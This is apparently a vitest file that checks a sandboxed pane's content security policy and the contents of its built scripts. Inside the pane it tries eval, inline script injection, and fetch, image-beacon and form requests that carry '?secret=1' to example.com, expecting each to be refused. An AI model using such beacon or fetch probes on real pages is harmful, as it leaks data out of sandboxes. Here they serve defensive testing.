import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDemo, type Demo } from './support/demo.ts';

const PANE = join(import.meta.dirname, '../../.cache/demo/pane');

/** Development builds name their modules. */
const OF_THE_HOST = /src\/host\/|src\/cli\//;

let demo: Demo;
beforeAll(async () => void (demo = await openDemo()));
afterAll(() => demo.close());

/** Runs in the pane; `refused` names what its content security policy did not let through. */
function tryInPane(code: 'eval' | 'inline' | 'fetch' | 'image' | 'form'): Promise<string> {
  return demo.pane.locator('body').evaluate(async (body, what) => {
    const refused = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
        once: true,
      });
      setTimeout(() => resolve('nothing refused'), 3_000);
    });
    // Later, because the browser lets the test's own call evaluate code.
    if (what === 'eval') setTimeout(() => new Function('window.ran = true')(), 0);
    if (what === 'inline') {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      body.append(script);
    }
    if (what === 'fetch') await fetch('https://example.com/?secret=1').catch(() => undefined);
    if (what === 'image') new Image().src = 'https://example.com/x.png?secret=1';
    if (what === 'form') {
      const form = document.createElement('form');
      form.action = 'https://example.com/';
      body.append(form);
      form.submit();
    }
    const directive = await refused;
    return 'ran' in window ? 'it ran' : directive;
  }, code);
}

describe('the pane in a real browser', () => {
  it.each([
    ['eval', /^script-src/],
    ['inline', /^script-src/],
    ['fetch', /^connect-src/],
    ['image', /^img-src/],
    ['form', /^form-action/],
  ] as const)('refuses %s', async (code, directive) => {
    expect(await tryInPane(code)).toMatch(directive);
  });
});

describe('the built pane', () => {
  it('contains nothing of the development host', () => {
    const scripts = scriptsOf(PANE);
    expect(scripts.length).toBeGreaterThan(1);
    expect(scripts.filter((text) => OF_THE_HOST.test(text))).toEqual([]);
  });

  it('would be found out if it did: the page of the host itself names its modules', () => {
    expect(scriptsOf(join(PANE, '../page')).some((text) => OF_THE_HOST.test(text))).toBe(true);
  });
});

function scriptsOf(folder: string): readonly string[] {
  const names = readdirSync(folder, { recursive: true, encoding: 'utf8' });
  return names.filter((name) => name.endsWith('.js')).map((name) => readFileSync(join(folder, name), 'utf8'));
}
